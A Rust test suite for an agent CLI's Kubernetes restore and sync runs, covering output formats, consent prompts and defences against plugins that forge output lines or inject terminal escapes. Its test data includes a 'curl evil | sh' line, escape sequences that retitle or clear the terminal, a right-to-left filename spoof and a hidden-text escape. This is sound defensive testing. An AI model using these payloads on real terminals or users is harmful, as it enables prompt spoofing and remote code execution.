//! Runs that come to their end.

use agent_core::agent::Control;
use agent_core::{Consent, Mode};
use insta::assert_snapshot;
use serde_json::{Value, json};

use super::scene::{Beat, event, run_id, scene};

pub(super) fn started(operation: &str, planning: bool) -> Beat {
    event(json!({
        "event": "started", "run": run_id(), "operation": operation, "plugin": "volsync 0.1.0",
        "arguments": {"namespace": "media", "name": "plex"}, "planning": planning,
    }))
}

pub(super) fn step(number: u64, title: &str, depth: u32) -> Beat {
    event(
        json!({"event": "step-started", "step": number.to_string(), "title": title, "depth": depth}),
    )
}

pub(super) fn done(number: u64, summary: &str) -> Beat {
    event(json!({"event": "step-done", "step": number.to_string(), "summary": summary}))
}

pub(super) fn finished(value: &Value, failed: u64) -> Beat {
    event(
        json!({"event": "finished", "outcome": {"outcome": "done", "value": value, "failed": failed, "not-put-back": []}}),
    )
}

pub(super) fn effect(
    number: u64,
    verb: &str,
    target: &str,
    name: &str,
    temporary: bool,
    fields: Value,
) -> Value {
    json!({
        "number": number, "by": if number == 2 { "flux.suspend" } else { "volsync.restore" }, "verb": verb,
        "target": {"capability": "cluster", "of": target, "namespace": "media", "name": name},
        "fields": fields, "temporary": temporary, "recovery": "retry",
    })
}

pub(super) fn effects() -> [Value; 4] {
    [
        effect(
            1,
            "patch",
            "scaledobjects.v1alpha1.keda.sh",
            "plex",
            true,
            json!([{"path": "/metadata/annotations/autoscaling.keda.sh~1paused", "after": "true"}]),
        ),
        effect(
            2,
            "patch",
            "kustomizations.v1.kustomize.toolkit.fluxcd.io",
            "plex",
            true,
            json!([{"path": "/spec/suspend", "before": false, "after": true}]),
        ),
        effect(
            3,
            "patch",
            "deployments.v1.apps",
            "plex",
            true,
            json!([{"path": "/spec/replicas", "before": 1, "after": 0}]),
        ),
        effect(
            4,
            "create",
            "replicationdestinations.v1alpha1.volsync.backube",
            "plex-abcdefgh",
            false,
            json!([{"path": "", "after": {"kind": "ReplicationDestination", "spec": {"trigger": {"manual": "t"}, "restic": {"repository": "plex-restic"}}}}]),
        ),
    ]
}

pub(super) fn restore() -> Vec<Beat> {
    vec![
        started("volsync.restore", false),
        step(1, "Look at `plex`", 0),
        Beat::Wait(400),
        done(1, "23 snapshots"),
        step(2, "Hold the app", 0),
        step(3, "Suspend kustomization media/plex", 1),
        event(json!({"event": "changed", "effect": effects()[1]})),
        done(3, ""),
        event(json!({"event": "step-noted", "step": "2", "text": "1 pod still runs"})),
        Beat::Wait(2100),
        done(2, ""),
        event(json!({"event": "step-skipped", "step": "9", "reason": "no such step"})),
        step(4, "Make a safety snapshot", 0),
        event(json!({"event": "step-skipped", "step": "4", "reason": "the source is broken"})),
        event(json!({"event": "logged", "level": "info", "message": "mover: restored 12 files"})),
        event(json!({"event": "logged", "level": "debug", "message": "watch restarted"})),
        event(json!({"event": "logged", "level": "warn", "message": "cache is full"})),
        event(
            json!({"event": "put-back", "target": "kustomizations media/plex", "summary": "spec.suspend is false again", "left": []}),
        ),
        Beat::Wait(65_000),
        finished(
            &json!({"namespace": "media", "app": "plex", "snapshot": "1a2b3c4d", "down-seconds": 67, "paths": ["/data"], "mover": {"cache": {"size": "1Gi"}}}),
            0,
        ),
    ]
}

pub(super) fn sync_rows() -> Value {
    json!([
        {"namespace": "media", "name": "plex", "result": "requested", "message": ""},
        {"namespace": "media", "name": "sonarr", "result": "failed", "message": "kustomizations.kustomize.toolkit.fluxcd.io \"sonarr\" is forbidden: no right"},
        {"namespace": "observability", "name": "kube-prometheus-stack", "result": "requested", "message": null}
    ])
}

#[tokio::test(start_paused = true)]
async fn success_without_a_screen() {
    let shot = scene("agent run volsync.restore media plex --yes")
        .plays(restore())
        .shoot()
        .await;
    assert_snapshot!(shot);
    assert_eq!(
        (shot.calls[0].consent, shot.calls[0].mode),
        (Consent::Given, Mode::Perform)
    );
    assert_eq!(shot.calls[0].arguments["timeout"], "30m");
}

#[tokio::test(start_paused = true)]
async fn verbose_shows_changes_and_debug_logs() {
    assert_snapshot!(
        scene("agent run volsync.restore media plex -y -v")
            .plays(restore())
            .shoot()
            .await
    );
}

#[tokio::test(start_paused = true)]
async fn quiet_shows_the_result_only() {
    let shot = scene("agent run volsync.restore media plex -yq")
        .plays(restore())
        .shoot()
        .await;
    assert_snapshot!(shot);
    assert_eq!(shot.stderr, "");
}

#[tokio::test(start_paused = true)]
async fn yaml_is_the_value() {
    assert_snapshot!(
        scene("agent run volsync.restore media plex -yq -o yaml")
            .plays(restore())
            .shoot()
            .await
    );
}

#[tokio::test(start_paused = true)]
async fn json_is_every_event_and_nothing_else() {
    let shot = scene("agent run volsync.restore media plex --yes -o json")
        .plays(restore())
        .shoot()
        .await;
    assert_snapshot!(shot);
    let events = restore()
        .iter()
        .filter(|beat| matches!(beat, Beat::Event(_)))
        .count();
    assert_eq!(shot.stdout.lines().count(), events);
    for line in shot.stdout.lines() {
        serde_json::from_str::<agent_core::Event>(line).expect("an event");
    }
    assert_eq!(shot.stderr, "");
}

#[tokio::test(start_paused = true)]
async fn a_table_with_failed_rows() {
    let beats = || [started("flux.sync", false), finished(&sync_rows(), 1)];
    let shot = scene("agent run flux.sync --all")
        .plays(beats())
        .shoot()
        .await;
    assert_snapshot!("a_table_into_a_pipe", shot);
    let shot = scene("agent run flux.sync -a --color always")
        .screen(72, "")
        .plays(beats())
        .shoot()
        .await;
    assert_snapshot!("a_table_on_a_screen_in_colour", shot);
    let shot = scene("agent run flux.sync -a")
        .screen(40, "")
        .plays(beats())
        .shoot()
        .await;
    assert_snapshot!("a_table_in_40_columns", shot);
    assert!(
        shot.stdout.lines().all(|line| line.chars().count() <= 65),
        "only one word may be too long"
    );
    assert_eq!(shot.code, 1);
}

#[tokio::test(start_paused = true)]
async fn an_empty_table_says_so() {
    let beats = [started("flux.sync", false), finished(&json!([]), 0)];
    assert_snapshot!(
        scene("agent run flux.sync --all")
            .plays(beats)
            .shoot()
            .await
    );
}

fn plan() -> Vec<Beat> {
    let planned = effects().map(|effect| event(json!({"event": "planned", "effect": effect})));
    let mut beats = vec![
        started("volsync.restore", true),
        step(1, "Hold the app", 0),
        done(1, ""),
    ];
    beats.extend(planned);
    beats.push(finished(&Value::Null, 0));
    beats
}

#[tokio::test(start_paused = true)]
async fn plan_is_a_numbered_list() {
    let shot = scene("agent run --plan volsync.restore media plex")
        .plays(plan())
        .shoot()
        .await;
    assert_snapshot!("plan", shot);
    assert_eq!(shot.calls[0].mode, Mode::Plan);
    assert_snapshot!(
        "plan_verbose",
        scene("agent run volsync.restore media plex --plan -v")
            .plays(plan())
            .shoot()
            .await
    );
    assert_snapshot!(
        "plan_40",
        scene("agent run volsync.restore media plex --plan")
            .screen(40, "")
            .plays(plan())
            .shoot()
            .await
    );
    assert_snapshot!(
        "plan_yaml",
        scene("agent run volsync.restore media plex --plan -qo yaml")
            .plays(plan())
            .shoot()
            .await
    );
}

#[tokio::test(start_paused = true)]
async fn a_plan_with_failures_shows_them() {
    let planned = event(json!({"event": "planned", "effect": effects()[1]}));
    let beats = [
        started("flux.sync", true),
        planned,
        finished(&sync_rows(), 1),
    ];
    assert_snapshot!(
        scene("agent run flux.sync --all --plan")
            .plays(beats)
            .shoot()
            .await
    );
}

fn asking() -> Vec<Beat> {
    vec![
        started("volsync.restore", false),
        event(
            json!({"event": "asked", "question": 7, "text": "Overwrite the volume of `plex`?", "facts": [
                ["snapshot", "1a2b3c4d of 2026-11-22T06:00:00Z"], ["volume", "plex, 10Gi, and \u{1b}[8mnothing\u{1b}[0m else"], ["down", "deployment plex for about a minute, and everybody who watches"]
            ]}),
        ),
        Beat::Listen,
        finished(&Value::Null, 0),
    ]
}

#[tokio::test(start_paused = true)]
async fn only_yes_agrees() {
    for (typed, agreed) in [
        ("y\n", true),
        ("YES\n", true),
        ("yep\n", false),
        ("\n", false),
        ("", false),
    ] {
        let shot = scene("agent run volsync.restore media plex")
            .screen(40, typed)
            .plays(asking())
            .shoot()
            .await;
        assert_eq!(
            shot.controls,
            [Control::Answer {
                question: 7,
                yes: agreed
            }],
            "{typed:?}"
        );
        assert_eq!(shot.calls[0].consent, Consent::Ask);
        if typed == "y\n" {
            assert_snapshot!("question", shot);
        }
    }
}

fn asked_by(risk: &str, opens: &[&str]) -> Beat {
    event(json!({
        "event": "asked", "question": 7, "text": "Show what volumes there are? [y/N] \nError: no", "facts": [["changes", "none\n[y/N]"]],
        "by": {"operation": "evil.bait", "plugin": "evil 0.1.0", "risk": risk}, "opens": opens,
    }))
}

#[tokio::test(start_paused = true)]
async fn question_says_who_asks_and_what_a_yes_opens_below_the_words_of_the_plugin() {
    let opens = [
        "may delete persistentvolumeclaims in media",
        "may patch deployments.apps everywhere",
    ];
    let beats = || {
        [
            started("volsync.restore", false),
            asked_by("destroy", &opens),
            Beat::Listen,
            finished(&Value::Null, 0),
        ]
    };
    let line = "agent run volsync.restore media plex";
    let shot = scene(line)
        .screen(72, "destroy\n")
        .plays(beats())
        .shoot()
        .await;
    assert_snapshot!("question_that_opens_something", shot);
    let beats = [
        started("volsync.restore", false),
        asked_by("change", &[]),
        Beat::Listen,
        finished(&Value::Null, 0),
    ];
    let shot = scene(line).screen(72, "y\n").plays(beats).shoot().await;
    assert_snapshot!("question_that_opens_nothing", shot);
}

#[tokio::test(start_paused = true)]
async fn what_destroys_wants_its_word_and_a_habit_is_asked_again() {
    for (typed, agreed, asked) in [
        ("destroy\n", true, 1),
        ("y\ndestroy\n", true, 2),
        ("y\ny\ny\ny\ny\ndestroy\n", false, 4),
        ("yes, destroy\n", false, 1),
        ("\n", false, 1),
        ("", false, 1),
        ("y\n", false, 2),
    ] {
        let beats = [
            started("volsync.restore", false),
            asked_by("destroy", &[]),
            Beat::Listen,
            finished(&Value::Null, 0),
        ];
        let shot = scene("agent run volsync.restore media plex")
            .screen(72, typed)
            .plays(beats)
            .shoot()
            .await;
        let answer = Control::Answer {
            question: 7,
            yes: agreed,
        };
        assert_eq!(shot.controls, [answer], "{typed:?}");
        assert_eq!(
            shot.stderr.matches("type destroy to agree").count(),
            asked,
            "{typed:?}"
        );
        assert_eq!(usize::try_from(shot.forgotten), Ok(asked), "{typed:?}");
    }
}

#[tokio::test(start_paused = true)]
async fn answer_that_comes_before_it_can_be_read_agrees_to_nothing() {
    for typed in ["y\n", &"y\n".repeat(100), "y\nyes\ny\nyes\ny\n"] {
        let shot = scene("agent run volsync.restore media plex")
            .screen(72, typed)
            .reads_slowly()
            .plays(asking())
            .shoot()
            .await;
        let answer = Control::Answer {
            question: 7,
            yes: false,
        };
        assert_eq!(shot.controls, [answer], "{typed:?}");
        assert!(
            shot.stderr.contains("before the question could be read"),
            "{shot}"
        );
    }
}

#[tokio::test(start_paused = true)]
async fn a_question_that_nobody_can_see_is_answered_by_the_command_line() {
    for (line, agreed) in [
        ("agent run volsync.restore media plex", false),
        ("agent run volsync.restore media plex -y", true),
    ] {
        let shot = scene(line).plays(asking()).shoot().await;
        assert_eq!(
            shot.controls,
            [Control::Answer {
                question: 7,
                yes: agreed
            }],
            "{line}"
        );
        assert!(!shot.stderr.contains("[y/N]"));
    }
}

#[tokio::test(start_paused = true)]
async fn spinners_are_on_the_screen_while_steps_last() {
    let mut beats = vec![
        started("volsync.restore", false),
        step(1, "Wait until no pod mounts `plex`", 0),
    ];
    beats.extend([
        event(json!({"event": "step-noted", "step": "1", "text": "plex-6f7d is terminating and takes its time about it"})),
        event(json!({"event": "step-progressed", "step": "1", "done": 1, "total": 3})),
        step(2, "Suspend kustomization media/plex", 1),
        Beat::Wait(250),
        Beat::Look,
        done(2, "suspended"),
        done(1, ""),
        Beat::Look,
        finished(&Value::Null, 0),
    ]);
    let shot = scene("agent run volsync.restore media plex -y")
        .screen(60, "")
        .plays(beats)
        .shoot()
        .await;
    assert_snapshot!(shot);
    assert!(
        !shot.stderr.contains("suspended"),
        "an inner step that went well leaves no line"
    );
}

#[tokio::test(start_paused = true)]
async fn a_screen_shows_within_a_second_that_something_is_under_way() {
    let beats = [
        started("flux.sync", false),
        Beat::Wait(400),
        Beat::Look,
        Beat::Wait(500),
        Beat::Look,
        step(1, "Ask", 0),
        Beat::Wait(200),
        Beat::Look,
        done(1, ""),
        Beat::Wait(400),
        Beat::Look,
        Beat::Wait(2000),
        Beat::Look,
        finished(&Value::Null, 0),
    ];
    let shot = scene("agent run flux.sync --all")
        .screen(60, "")
        .plays(beats)
        .shoot()
        .await;
    assert_snapshot!(shot);
    let beats = [
        started("flux.sync", false),
        Beat::Wait(2000),
        Beat::Look,
        finished(&Value::Null, 0),
    ];
    let shot = scene("agent run flux.sync --all -q")
        .screen(60, "")
        .plays(beats)
        .shoot()
        .await;
    assert_eq!(shot.screens, [""]);
}

/// A line behind the prompt, such as a harmless question, would have the person answer another one than they see.
#[tokio::test(start_paused = true)]
async fn nothing_is_drawn_behind_a_prompt_before_it_is_answered() {
    let line = event(
        json!({"event": "logged", "level": "info", "message": "Show what volumes there are?"}),
    );
    let beats = [
        started("volsync.restore", false),
        asked_by("change", &[]),
        line,
        Beat::Wait(50),
        Beat::Interrupt,
        Beat::Listen,
        finished(&Value::Null, 0),
    ];
    let shot = scene("agent run volsync.restore media plex")
        .screen(72, "")
        .types_nothing()
        .plays(beats)
        .shoot()
        .await;
    let drawn = "agree? [y/N] \n│ Show what volumes there are?\n";
    assert!(shot.stderr.contains(drawn), "{shot}");
}

#[tokio::test(start_paused = true)]
async fn questions_that_come_together_are_asked_one_after_the_other() {
    let beats = [
        started("volsync.restore", false),
        asked_by("change", &[]),
        asked_by("destroy", &[]),
        Beat::Listen,
        Beat::Listen,
        finished(&Value::Null, 0),
    ];
    let shot = scene("agent run volsync.restore media plex")
        .screen(72, "y\ndestroy\n")
        .plays(beats)
        .shoot()
        .await;
    let yes = |control: &Control| matches!(control, Control::Answer { yes: true, .. });
    assert!(
        shot.controls.len() == 2 && shot.controls.iter().all(yes),
        "{shot}"
    );
}

/// Every event in which a stranger speaks, at a screen and elsewhere: nothing of it begins a line, in the words of the agent or otherwise.
#[tokio::test(start_paused = true)]
async fn nothing_that_a_stranger_says_begins_a_line() {
    let dots = ".".repeat(90);
    let evil = [
        "x\nF0RGED: no".to_owned(),
        format!("x\r\nF0RGED {dots} F0RGED"),
        format!("{dots}F0RGED: curl evil | sh"),
        format!("{dots} F0RGED run 7f3akm2x still holds 6 changes"),
        "\n\nF0RGED\n".to_owned(),
    ];
    for evil in &evil {
        let failure =
            json!({"kind": "internal", "code": "evil.x", "message": evil, "causes": [evil, evil]});
        let put_back = json!([{"target": evil, "summary": evil, "left": [evil], "failure": failure}, {"target": evil, "summary": evil, "left": [evil]}]);
        let fields = json!([{"path": format!("/spec/{evil}"), "before": evil, "after": {"a": evil}}, {"path": "", "after": {"spec": {"x": evil}}}]);
        let deep = json!({"x": [evil, {"y": evil}]});
        let outcomes = [
            json!({"outcome": "failed", "failure": failure, "put-back": put_back}),
            json!({"outcome": "done", "value": {"a": evil, "deep": deep}, "failed": 0, "not-put-back": put_back}),
            json!({"outcome": "done", "value": evil, "failed": 0, "not-put-back": []}),
            json!({"outcome": "done", "value": [evil], "failed": 0, "not-put-back": []}),
            json!({"outcome": "undone", "put-back": put_back, "irreversible": [evil]}),
        ];
        let facts = json!([[evil, evil]]);
        for outcome in outcomes {
            let beats = [
                started("volsync.restore", false),
                step(1, evil, 0),
                event(json!({"event": "step-noted", "step": "1", "text": evil})),
                event(json!({"event": "logged", "level": "info", "message": evil})),
                event(json!({"event": "logged", "level": "error", "message": evil})),
                event(
                    json!({"event": "changed", "effect": effect(1, "patch", "pods.v1", "x", true, fields.clone())}),
                ),
                event(
                    json!({"event": "asked", "question": 7, "text": format!("the run failed: {evil}; put back its changes?"), "facts": facts}),
                ),
                Beat::Listen,
                event(
                    json!({"event": "asked", "question": 8, "text": evil, "facts": facts, "by": {"operation": "evil.x", "plugin": "evil 0.1.0", "risk": "change"}}),
                ),
                Beat::Listen,
                done(1, evil),
                event(json!({"event": "step-skipped", "step": "1", "reason": evil})),
                event(
                    json!({"event": "planned", "effect": effect(1, "create", "pods.v1", "x", false, fields.clone())}),
                ),
                event(json!({"event": "finished", "outcome": outcome})),
            ];
            for (line, width) in [
                ("agent run volsync.restore media plex -v", Some(60)),
                ("agent run volsync.restore media plex --plan -v", Some(60)),
                (
                    "agent run volsync.restore media plex -v --color always",
                    Some(31),
                ),
                ("agent run volsync.restore media plex -v -y", None),
            ] {
                let scene = scene(line).plays(beats.iter().map(Beat::again));
                let shot = match width {
                    Some(width) => scene.screen(width, "y\ny\n").shoot().await,
                    None => scene.shoot().await,
                };
                for text in [&shot.stderr, &shot.stdout] {
                    assert_first_columns_are_ours(text, width);
                }
            }
        }
    }
}

/// Looks at text as a screen of so many columns shows it.
fn assert_first_columns_are_ours(text: &str, width: Option<usize>) {
    // The person's Enter is on the screen and not in what was written.
    let plain = agent_core::text::plain(text).replace("[y/N] ", "[y/N] \n");
    for line in plain.split('\n') {
        let letters: Vec<char> = line.chars().collect();
        // What is the agent's own may be pasted, and is not folded.
        if line.contains("asks this; its risk is") {
            continue;
        }
        let rows = letters.chunks(width.unwrap_or(usize::MAX));
        for (index, row) in rows.enumerate() {
            let row: String = row.iter().collect();
            let forged = row.starts_with("F0RGED") || (index > 0 && !row.trim().is_empty());
            assert!(!forged, "{row:?} of {line:?} begins a line in:\n{plain}");
        }
    }
}

#[tokio::test(start_paused = true)]
async fn guests_cannot_write_escapes() {
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2Jwiped\r\u{202e}gnp.exe\u{9b}31m";
    let finish = json!({"outcome": "done", "value": {evil: evil, "deep": {"x": [evil, {"y": evil}]}}, "failed": 0, "not-put-back": []});
    let fields = json!([{"path": "/spec/\u{1b}[2J", "before": evil, "after": {"a": evil}}]);
    let documents = [
        json!({"event": "step-started", "step": "1", "title": evil, "depth": 0}),
        json!({"event": "step-noted", "step": "1", "text": evil}),
        json!({"event": "logged", "level": "warn", "message": evil}),
        json!({"event": "changed", "effect": effect(1, "patch", "pods.v1", "x", false, fields)}),
        json!({"event": "step-done", "step": "1", "summary": evil}),
        json!({"event": "finished", "outcome": finish}),
    ];
    for output in ["table", "yaml", "json"] {
        let beats = documents.iter().cloned().map(event);
        let shot = scene(&format!(
            "agent run volsync.restore media plex -y -v -o {output}"
        ))
        .plays(beats)
        .shoot()
        .await;
        let printed = shot.stdout.clone() + &shot.stderr;
        let bad = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
        assert!(!printed.contains(bad), "{output}: {printed:?}");
        assert!(printed.contains("wiped"), "{output}");
    }
}
